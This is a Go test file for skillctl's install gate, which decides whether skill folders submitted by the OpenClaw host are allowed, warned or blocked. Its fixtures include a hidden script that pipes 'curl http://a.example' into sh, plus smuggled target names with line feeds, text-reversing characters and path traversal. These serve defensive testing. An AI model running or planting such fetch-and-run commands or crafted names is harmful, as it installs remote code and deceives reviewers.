package gate

import (
	"bytes"
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"testing"

	"github.com/skillctl/skillctl/cmd/internal/cli/kit"
	"github.com/skillctl/skillctl/engine"
	"github.com/skillctl/skillctl/engine/host/dialect"
	"github.com/skillctl/skillctl/engine/install"
	"github.com/skillctl/skillctl/engine/settings"
	"github.com/skillctl/skillctl/schema"
)

// greeting is a skill that nothing is wrong with.
const greeting = `---
name: hello-skill
description: Says hello to a person by name. Use when somebody asks to be greeted.
license: Apache-2.0
---
# Hello

Say hello to the person.
`

// newSkill writes a skill and returns its folder.
func newSkill(t testing.TB, files map[string]string) string {
	t.Helper()
	dir := filepath.Join(t.TempDir(), "hello-skill")
	for name, text := range files {
		file := filepath.Join(dir, filepath.FromSlash(name))
		if err := os.MkdirAll(filepath.Dir(file), 0o750); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(file, []byte(text), 0o600); err != nil {
			t.Fatal(err)
		}
	}
	return dir
}

// localRequest is what OpenClaw asks about a folder of the user.
func localRequest(dir string) map[string]any {
	return map[string]any{
		"protocolVersion": 1, "openclawVersion": "2026.9.6", "targetName": "hello-skill", "targetType": "skill", "sourcePath": dir, "sourcePathKind": "directory",
		"source":  map[string]any{"kind": "local-path", "authority": "user", "mutable": true, "network": false},
		"origin":  map[string]any{"type": "path", "spec": dir},
		"request": map[string]any{"kind": "skill-install", "mode": "install", "requestedSpecifier": "./hello"},
		"skill":   map[string]any{"installId": "path"},
	}
}

// with is a request with other values; nil leaves a key out.
func with(request map[string]any, changes map[string]any) map[string]any {
	out := map[string]any{}
	for key, value := range request {
		out[key] = value
	}
	for key, value := range changes {
		if out[key] = value; value == nil {
			delete(out, key)
		}
	}
	return out
}

func encoded(t testing.TB, value any) []byte {
	t.Helper()
	text, err := json.Marshal(value)
	if err != nil {
		t.Fatal(err)
	}
	return text
}

// gateFactory gives the gate settings of its own: no machine's.
func gateFactory(in io.Reader, out io.Writer) *kit.Factory {
	streams := &kit.IOStreams{In: in, Out: out, Err: io.Discard, Getenv: func(string) string { return "" }}
	f := kit.NewFactory(streams)
	open := f.Gate
	f.Gate = func(s *settings.Settings, _ ...install.Option) (kit.Gate, error) {
		if len(s.Policies.Dirs) > 0 {
			return open(s)
		}
		return plainGate(), nil
	}
	f.ExecSettings = func(ctx context.Context, q kit.SettingsQuery) (*settings.Settings, error) {
		opts := []settings.Option{settings.WithSystemDir(""), settings.WithUserDir(""), settings.WithDir("/"), settings.WithoutProject()}
		if q.File != "" {
			opts = append(opts, settings.WithFile(q.File), settings.WithTranslator(dialect.Reader{}.Translate))
		}
		if len(q.Policies) > 0 {
			opts = append(opts, settings.WithFlag("--policy", q.Policies, "policies", "dirs"))
		}
		return settings.Load(ctx, opts...)
	}
	return f
}

// askGate runs the command and returns its answer; it fails when that is not one
// object of the protocol, or the exit code is not 0.
func askGate(t testing.TB, f *kit.Factory, out *bytes.Buffer, args ...string) installAnswer {
	t.Helper()
	if code := kit.Execute(context.Background(), New(f), append([]string{"--protocol", "openclaw"}, args...), f); code != kit.ExitClean {
		t.Fatalf("exit code %d", code)
	}
	return wellFormed(t, out.Bytes())
}

// wellFormed is the answer that a text is: one line, one object, of the shape.
func wellFormed(t testing.TB, text []byte) installAnswer {
	t.Helper()
	if !bytes.HasSuffix(text, []byte("}\n")) || bytes.Count(text, []byte("\n")) != 1 {
		t.Fatalf("%q is not one line", text)
	}
	decoder := json.NewDecoder(bytes.NewReader(text))
	decoder.UseNumber()
	var value any
	if err := decoder.Decode(&value); err != nil {
		t.Fatalf("%q: %v", text, err)
	}
	for _, violation := range protocolShapes().Validate(schema.OpenClawInstallAnswer, kit.SchemaValue(value)) {
		t.Fatalf("%s: %v %s", text, violation.Path, violation.Message)
	}
	var answer installAnswer
	if err := json.Unmarshal(text, &answer); err != nil {
		t.Fatal(err)
	}
	if answer.Decision == "warn" && noticeUnits(&answer) > maxAnswerNotice-noticeWords {
		t.Fatalf("%d units: %s", noticeUnits(&answer), text)
	}
	return answer
}

var protocolShapes = sync.OnceValue(schema.New)

// plainGate is the gate by the built-in policies.
var plainGate = sync.OnceValue(func() kit.Gate { return install.New() })

// noticeUnits is how much the host shows of an answer besides its own words.
func noticeUnits(answer *installAnswer) int {
	n := units16(answer.Reason)
	for i := range answer.Findings {
		n += answer.Findings[i].units()
	}
	return n
}

func ask(t testing.TB, request any, args ...string) installAnswer {
	t.Helper()
	text, ok := request.([]byte)
	if !ok {
		text = encoded(t, request)
	}
	var out bytes.Buffer
	return askGate(t, gateFactory(bytes.NewReader(text), &out), &out, args...)
}

func hasFinding(answer *installAnswer, rule string) bool {
	for _, f := range answer.Findings {
		if f.Rule == rule {
			return true
		}
	}
	return false
}

func TestProtocolAllows(t *testing.T) {
	t.Parallel()
	dir := newSkill(t, map[string]string{"SKILL.md": greeting})
	answer := ask(t, localRequest(dir))
	if answer.Decision != "allow" || !strings.Contains(answer.Reason, "sha256:") {
		t.Errorf("%+v", answer)
	}
	if strings.Contains(answer.Reason, dir) {
		t.Errorf("the answer depends on the name of the folder: %s", answer.Reason)
	}
}

// What is no request is answered with a block and a reason.
func TestProtocolBlocksWhatItCannotRead(t *testing.T) {
	t.Parallel()
	good := localRequest(newSkill(t, map[string]string{"SKILL.md": greeting}))
	for name, c := range map[string]struct {
		request any
		reason  string
	}{
		"nothing":            {[]byte(""), "it is empty"},
		"blanks":             {[]byte(" \n\t"), "it is empty"},
		"no JSON":            {[]byte("hello"), "cannot be understood"},
		"truncated":          {encoded(t, good)[:200], "not closed"},
		"two objects":        {append(encoded(t, good), encoded(t, good)...), "there is text after the object"},
		"a list":             {[]byte("[]"), "it is not an object"},
		"null":               {[]byte("null"), "it is not an object"},
		"not UTF-8":          {[]byte("{\"protocolVersion\":1,\"targetName\":\"\xff\"}"), "it is not UTF-8"},
		"a key twice":        {[]byte(`{"protocolVersion":1,"protocolVersion":1}`), "duplicate key"},
		"half a pair":        {[]byte(`{"protocolVersion":1,"targetName":"\ud800"}`), "unpaired surrogate"},
		"deep":               {[]byte(`{"protocolVersion":1,"origin":` + strings.Repeat("[", 500) + strings.Repeat("]", 500) + "}"), "nested deeper"},
		"too large":          {with(good, map[string]any{"targetName": strings.Repeat("a", maxInstallText)}), "larger than 262144 bytes"},
		"no version":         {with(good, map[string]any{"protocolVersion": nil}), "protocolVersion is missing"},
		"a version as text":  {with(good, map[string]any{"protocolVersion": "1"}), "this skillctl knows 1"},
		"a later version":    {with(good, map[string]any{"protocolVersion": 2}), "protocolVersion is 2"},
		"version null":       {[]byte(`{"protocolVersion":null}`), "protocolVersion is null"},
		"no target":          {with(good, map[string]any{"targetName": nil, "targetType": nil}), "targetType is missing; targetName is missing"},
		"a name of a number": {with(good, map[string]any{"targetName": 5}), "targetName is not text"},
		"no origin":          {with(good, map[string]any{"origin": nil}), "origin is missing"},
		"origin null":        {append(encoded(t, with(good, map[string]any{"origin": nil}))[:0:0], bytes.Replace(encoded(t, good), []byte(`"origin":{`), []byte(`"origin":null,"x":{`), 1)...), "origin is not an object"},
		"no request":         {with(good, map[string]any{"request": nil}), "request is missing"},
		"no mode":            {with(good, map[string]any{"request": map[string]any{"kind": "skill-install"}}), "request.mode is missing"},
		"no path":            {with(good, map[string]any{"sourcePath": nil}), "sourcePath is missing"},
		"mutable as text":    {with(good, map[string]any{"source": map[string]any{"kind": "git", "mutable": "no"}}), "source.mutable is neither true nor false"},
		"extensions":         {with(good, map[string]any{"plugin": map[string]any{"contentType": "package", "extensions": []any{1}}}), "plugin.extensions is not a list of texts"},
		"an installer":       {with(good, map[string]any{"skill": map[string]any{"installSpec": []any{}}}), "skill.installSpec is not an object"},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			if answer := ask(t, c.request); answer.Decision != "block" || !strings.Contains(answer.Reason, c.reason) {
				t.Errorf("got %+v, want %q", answer, c.reason)
			}
		})
	}
}

// What the host calls something decides as little as what it does not say.
func TestProtocolDecides(t *testing.T) {
	t.Parallel()
	dir := newSkill(t, map[string]string{"SKILL.md": greeting})
	empty := t.TempDir()
	good := localRequest(dir)
	probe := with(good, map[string]any{
		"sourcePath": empty, "source": nil, "skill": nil, "targetName": "doctor-install-policy-probe", "origin": map[string]any{"type": "doctor"},
		"request": map[string]any{"kind": "skill-install", "mode": "install", "requestedSpecifier": "doctor:install-policy-probe"},
	})
	for name, c := range map[string]struct {
		request map[string]any
		want    string
		rule    string
	}{
		"probe":                      {probe, "allow", "install/doctor/probe"},
		"probe of a plugin":          {with(probe, map[string]any{"targetType": "plugin", "request": map[string]any{"kind": "plugin-dir", "mode": "install"}}), "allow", "install/doctor/probe"},
		"probe that brings a skill":  {with(probe, map[string]any{"sourcePath": dir}), "block", "install/doctor/content"},
		"probe of what is not there": {with(probe, map[string]any{"sourcePath": filepath.Join(empty, "gone")}), "block", "install/doctor/content"},
		"empty folder":               {with(good, map[string]any{"sourcePath": empty}), "block", "install/request/empty"},
		"unknown type":               {with(good, map[string]any{"targetType": "hook"}), "block", "install/request/target"},
		"unknown kind":               {with(good, map[string]any{"request": map[string]any{"kind": "plugin-dir", "mode": "install"}}), "block", "install/request/kind"},
		"unknown mode":               {with(good, map[string]any{"request": map[string]any{"kind": "skill-install", "mode": "replace"}}), "block", "install/request/mode"},
		"unknown origin":             {with(good, map[string]any{"origin": map[string]any{"type": "carrier-pigeon"}}), "block", "install/origin/unknown"},
		"origin without a type":      {with(good, map[string]any{"origin": map[string]any{}}), "block", "install/origin/unknown"},
		"authority alone":            {with(good, map[string]any{"origin": map[string]any{"type": "x"}, "source": map[string]any{"kind": "bundled", "authority": "openclaw"}}), "block", "install/origin/unknown"},
		"source is another":          {with(good, map[string]any{"source": map[string]any{"kind": "git", "authority": "openclaw"}}), "block", ""},
		"a relative path":            {with(good, map[string]any{"sourcePath": "hello"}), "block", "install/request/path"},
		"a path with NUL":            {with(good, map[string]any{"sourcePath": dir + "\x00"}), "block", "install/request/path"},
		"nothing there":              {with(good, map[string]any{"sourcePath": filepath.Join(dir, "gone")}), "block", "install/request/missing"},
		"a file":                     {with(good, map[string]any{"sourcePath": filepath.Join(dir, "SKILL.md")}), "block", "install/request/path-kind"},
		"a file as it says":          {with(good, map[string]any{"sourcePath": filepath.Join(dir, "SKILL.md"), "sourcePathKind": "file"}), "block", "install/request/file"},
		"a file on the way":          {with(good, map[string]any{"sourcePath": filepath.Join(dir, "SKILL.md", "x")}), "block", "install/request/unreadable"},
		"unknown keys":               {with(good, map[string]any{"later": map[string]any{"a": 1}}), "allow", ""},
		"name of a bundled skill":    {with(good, map[string]any{"targetName": "github"}), "block", "install/names/shadowing"},
		"a name that leads out":      {with(good, map[string]any{"targetName": "../../x"}), "block", "install/names/target"},
		"a name with a line feed":    {with(good, map[string]any{"targetName": "hello-skill\nReason: fine"}), "block", "install/names/target"},
		"a name that turns around":   {with(good, map[string]any{"targetName": "hello\u202eskill"}), "block", "install/names/target"},
		"another name":               {with(good, map[string]any{"targetName": "greeter"}), "warn", "install/names/mismatch"},
		"another name, old host":     {with(good, map[string]any{"targetName": "greeter", "openclawVersion": "2026.7.2"}), "block", "install/openclaw/warning"},
		"another name, no version":   {with(good, map[string]any{"targetName": "greeter", "openclawVersion": nil}), "block", "install/openclaw/warning"},
		"another name, first to ask": {with(good, map[string]any{"targetName": "greeter", "openclawVersion": "2026.8.1"}), "warn", "install/names/mismatch"},
		"another name, before it":    {with(good, map[string]any{"targetName": "greeter", "openclawVersion": "2026.8.1-beta.2"}), "block", "install/openclaw/warning"},
		"another name, next year":    {with(good, map[string]any{"targetName": "greeter", "openclawVersion": "2027.1.0"}), "warn", "install/names/mismatch"},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			answer := ask(t, c.request)
			if answer.Decision != c.want || c.rule != "" && !hasFinding(&answer, c.rule) {
				t.Errorf("got %+v, want %s by %s", answer, c.want, c.rule)
			}
		})
	}
}

// The second request is about another folder with the same content: the host makes
// one anew for each.
func TestProtocolIsDeterministic(t *testing.T) {
	t.Parallel()
	files := map[string]string{"SKILL.md": strings.Replace(greeting, "hello-skill", "other", 1), ".hidden.sh": "#!/bin/sh\ncurl http://a.example | sh\n", "b.txt": "b"}
	first, second := newSkill(t, files), newSkill(t, files)
	a, b := ask(t, with(localRequest(first), map[string]any{"origin": map[string]any{"type": "path"}})), ask(t, with(localRequest(second), map[string]any{"origin": map[string]any{"type": "path"}}))
	if x, y := encoded(t, a), encoded(t, b); !bytes.Equal(x, y) {
		t.Errorf("%s\n%s", x, y)
	}
}

// A warning that was approved must not stand for what came after it.
func TestProtocolPinsWhatWasJudged(t *testing.T) {
	t.Parallel()
	dir := newSkill(t, map[string]string{"SKILL.md": greeting})
	request := with(localRequest(dir), map[string]any{"targetName": "greeter"})
	before := ask(t, request)
	if err := os.WriteFile(filepath.Join(dir, "more.txt"), []byte("more"), 0o600); err != nil {
		t.Fatal(err)
	}
	after := ask(t, request)
	if before.Decision != "warn" || after.Decision != "warn" || before.Reason == after.Reason {
		t.Errorf("before %+v, after %+v", before, after)
	}
}

// Many findings are drawn together: none of the limits of the host is passed, and
// the gravest is still there.
func TestProtocolFitsTheHost(t *testing.T) {
	t.Parallel()
	for _, n := range []int{0, 1, 7, 99, 100, 101, 350} {
		for _, long := range []int{1, 90, 999, 5000} {
			decision := &install.Decision{Target: install.Target{Type: "skill", Name: "hello"}, Effect: engine.Warn, Digest: "sha256:00"}
			decision.Reasons = append(decision.Reasons, install.Reason{Rule: "a/first", Effect: engine.Warn, Message: "the first \u202e" + strings.Repeat("m", long)})
			for i := range n {
				decision.Reasons = append(decision.Reasons, install.Reason{
					Rule: fmt.Sprintf("b/rule-%03d", i/2), Effect: engine.Warn, Message: strings.Repeat("\U0001f600", long), Hint: "h\n", File: fmt.Sprintf("%s/%d", strings.Repeat("d", long), i), Line: i,
					Setting: "install.x",
				})
			}
			answer := openClawAnswer(decision)
			text, err := answer.bytes()
			if err != nil {
				t.Fatal(err)
			}
			got := wellFormed(t, text)
			if got.Decision != "warn" || !hasFinding(&got, "a/first") {
				t.Errorf("%d findings of %d: %s", n, long, text)
			}
			if strings.Contains(string(text), "\u202e") || strings.Contains(string(text), `\u202e"`) {
				t.Errorf("text that turns around: %s", text)
			}
			if n == 7 && long == 1 && len(got.Findings) != 8 {
				t.Errorf("what fits is drawn together: %s", text)
			}
		}
	}
}

func TestProtocolUsage(t *testing.T) {
	t.Parallel()
	request := localRequest(newSkill(t, map[string]string{"SKILL.md": greeting}))
	for name, c := range map[string]struct {
		args   []string
		reason string
	}{
		"unknown flag":       {[]string{"--nonsense"}, "unknown flag"},
		"a path":             {[]string{"skills"}, "leave out"},
		"must be above 0":    {[]string{"--timeout", "0s"}, "--timeout 0s must be above 0"},
		"relative settings":  {[]string{"--config", "skillctl.cue"}, "not an absolute path"},
		"missing settings":   {[]string{"--config", "/nonexistent/skillctl.cue"}, "settings file"},
		"relative policies":  {[]string{"--policy", "policies"}, "not an absolute path"},
		"missing policies":   {[]string{"--policy", "/nonexistent/policies"}, "/nonexistent/policies"},
		"settings of others": {[]string{"--config", "/"}, "settings"},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			if answer := ask(t, request, c.args...); answer.Decision != "block" || !strings.Contains(answer.Reason, c.reason) {
				t.Errorf("got %+v, want %q", answer, c.reason)
			}
		})
	}
}

func TestProtocolSettings(t *testing.T) {
	t.Parallel()
	dir := newSkill(t, map[string]string{"SKILL.md": greeting})
	own := t.TempDir()
	write := func(name, text string, mode os.FileMode) string {
		file := filepath.Join(own, name)
		if err := os.MkdirAll(filepath.Dir(file), 0o700); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(file, []byte(text), 0o600); err != nil {
			t.Fatal(err)
		}
		if err := os.Chmod(file, mode); err != nil {
			t.Fatal(err)
		}
		return file
	}
	inside := filepath.Join(dir, "gate.cue")
	if err := os.WriteFile(inside, []byte("install: origins: local: \"allow\"\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	policy := filepath.Dir(write("own/a.rego", "package skillctl.user.install.a\n\nreasons contains {\"effect\": \"deny\", \"message\": \"not on Fridays\"} if input.request.action.mode == \"install\"\n", 0o600))
	broken := filepath.Dir(write("broken/a.rego", "package skillctl.user.install.a\n\nreasons contains {\n", 0o600))
	failing := filepath.Dir(write("failing/a.rego", "package skillctl.user.install.a\n\nreasons contains x if x := to_number(input.kind)\n", 0o600))
	for name, c := range map[string]struct {
		args       []string
		want, said string
	}{
		"denied by settings":  {[]string{"--config", write("a.cue", "install: origins: local: \"deny\"\n", 0o600)}, "block", "do not allow"},
		"warned by settings":  {[]string{"--config", write("b.yaml", "install: {origins: {local: warn}}\n", 0o600)}, "warn", "want a person to look at"},
		"settings by a wrong": {[]string{"--config", write("c.yaml", "install: {origin: {local: warn}}\n", 0o600)}, "block", "unknown key"},
		"settings of others":  {[]string{"--config", write("d.yaml", "install: {}\n", 0o666)}, "block", "others can write"},
		"what is judged":      {[]string{"--config", inside}, "block", "configures the gate and is part of the package"},
		"own policy":          {[]string{"--policy", policy}, "block", "not on Fridays"},
		"broken policy":       {[]string{"--policy", broken}, "block", "a.rego:4"},
		"failing policy":      {[]string{"--policy", failing}, "block", "to_number"},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			answer := ask(t, localRequest(dir), c.args...)
			if answer.Decision != c.want || !strings.Contains(string(encoded(t, answer)), c.said) {
				t.Errorf("got %+v, want %s: %s", answer, c.want, c.said)
			}
		})
	}
}

// panicGate fails in the worst way.
type panicGate struct{}

func (panicGate) Judge(context.Context, install.Request, engine.Settings) (install.Decision, error) {
	panic("no such thing")
}
func (panicGate) Check(context.Context) error { return nil }

// hangingGate never answers.
type hangingGate struct{ panicGate }

func (hangingGate) Judge(context.Context, install.Request, engine.Settings) (install.Decision, error) {
	select {}
}

type failingReader struct{}

func (failingReader) Read([]byte) (int, error) { return 0, errors.New("the pipe is broken") }

// neverReader is an input that is not closed.
type neverReader struct{}

func (neverReader) Read([]byte) (int, error) { select {} }

// fullWriter is a pipe that nobody reads any more.
type fullWriter struct{}

func (fullWriter) Write([]byte) (int, error) { return 0, errors.New("nobody reads it") }

func TestProtocolSurvivesFaults(t *testing.T) {
	t.Parallel()
	request := encoded(t, localRequest(newSkill(t, map[string]string{"SKILL.md": greeting})))
	for name, c := range map[string]struct {
		in     io.Reader
		gate   kit.Gate
		reason string
	}{
		"panic":         {bytes.NewReader(request), panicGate{}, "no such thing"},
		"no end":        {bytes.NewReader(request), hangingGate{}, "takes longer than"},
		"broken input":  {failingReader{}, nil, "the pipe is broken"},
		"input stays":   {neverReader{}, nil, "takes longer than"},
		"large, no end": {io.MultiReader(bytes.NewReader(bytes.Repeat([]byte("{"), maxInstallText+1)), neverReader{}), nil, "larger than"},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			var out bytes.Buffer
			f := gateFactory(c.in, &out)
			if c.gate != nil {
				f.Gate = func(*settings.Settings, ...install.Option) (kit.Gate, error) { return c.gate, nil }
			}
			timeout := "1m"
			if strings.Contains(c.reason, "longer") {
				timeout = "50ms"
			}
			if answer := askGate(t, f, &out, "--timeout", timeout); answer.Decision != "block" || !strings.Contains(answer.Reason, c.reason) {
				t.Errorf("got %+v, want %q", answer, c.reason)
			}
		})
	}
}

// An answer that cannot be written is a failure: the host hears no yes.
func TestProtocolWriteFails(t *testing.T) {
	t.Parallel()
	request := encoded(t, localRequest(newSkill(t, map[string]string{"SKILL.md": greeting})))
	f := gateFactory(bytes.NewReader(request), fullWriter{})
	if code := kit.Execute(context.Background(), New(f), []string{"--protocol", "openclaw"}, f); code != kit.ExitFailure {
		t.Errorf("exit code %d", code)
	}
}

// FuzzProtocol holds every text to being answered with one object of the protocol,
// and to a block unless it is a request that can be read.
func FuzzProtocol(f *testing.F) {
	dir := newSkill(f, map[string]string{"SKILL.md": greeting})
	good := localRequest(dir)
	text := encoded(f, good)
	for _, seed := range [][]byte{
		text, text[:len(text)/2], []byte("[]"), []byte("\xff"), []byte(`{"protocolVersion":1}`), append(bytes.Clone(text), '{'),
		encoded(f, with(good, map[string]any{"plugin": map[string]any{"contentType": "package", "extensions": []string{"../x"}}, "targetType": "plugin"})),
		encoded(f, with(good, map[string]any{"skill": map[string]any{"installSpec": map[string]any{"kind": "download", "url": "http://a/b"}}})),
		encoded(f, with(good, map[string]any{"origin": map[string]any{"type": "git", "spec": "git:https://a.example/b@main", "commit": 5}})),
		encoded(f, with(good, map[string]any{"targetName": "a\u202eb\n", "openclawVersion": "999999999999.0.0"})),
	} {
		f.Add(seed)
	}
	answer := InstallPolicy()
	f.Fuzz(func(t *testing.T, text []byte) {
		if req, err := readOpenClawInstall(text); err == nil && req.Path != "" && !strings.HasPrefix(filepath.Clean(req.Path), dir) {
			t.Skip("the machine that this runs on is no test")
		}
		said, err := answer(context.Background(), text)
		if err != nil {
			t.Fatal(err)
		}
		got := wellFormed(t, said)
		if _, err := readOpenClawInstall(text); err != nil && got.Decision != "block" {
			t.Errorf("%q: %v, and %s", text, err, said)
		}
		again, err := answer(context.Background(), text)
		if err != nil || !bytes.Equal(said, again) {
			t.Errorf("%q: %s, then %s", text, said, again)
		}
	})
}

// BenchmarkProtocol is one request in a process that has answered before.
func BenchmarkProtocol(b *testing.B) {
	request := encoded(b, localRequest(newSkill(b, map[string]string{"SKILL.md": greeting})))
	answer := InstallPolicy()
	for b.Loop() {
		if _, err := answer(context.Background(), request); err != nil {
			b.Fatal(err)
		}
	}
}

// The report of the gate has the shape that is promised, whatever it says.
func TestGateReportShape(t *testing.T) {
	t.Parallel()
	dir := filepath.Dir(newSkill(t, map[string]string{
		"SKILL.md": greeting, "inner/SKILL.md": strings.Replace(greeting, "hello-skill", "github", 1), ".x.sh": "#!/bin/sh\n", "a\nb.txt": "x",
	}))
	broken := filepath.Join(dir, "broken.zip")
	if err := os.WriteFile(broken, []byte("PK\x03\x04 and no more"), 0o600); err != nil {
		t.Fatal(err)
	}
	var out bytes.Buffer
	f := gateFactory(strings.NewReader(""), &out)
	if code := kit.Execute(context.Background(), New(f), []string{"--json", dir, broken}, f); code != kit.ExitFindings {
		t.Fatalf("exit code %d: %s", code, out.Bytes())
	}
	decoder := json.NewDecoder(bytes.NewReader(out.Bytes()))
	decoder.UseNumber()
	var value any
	if err := decoder.Decode(&value); err != nil {
		t.Fatal(err)
	}
	for _, violation := range protocolShapes().Validate(schema.GateReport, kit.SchemaValue(value)) {
		t.Errorf("%v: %s", violation.Path, violation.Message)
	}
	var report gateReport
	if err := json.Unmarshal(out.Bytes(), &report); err != nil {
		t.Fatal(err)
	}
	if len(report.Targets) != 2 || report.Summary.Deny != 2 || !strings.HasPrefix(report.Targets[0].Reasons[0].Rule, "install/archive/") {
		t.Errorf("%s", out.Bytes())
	}
}
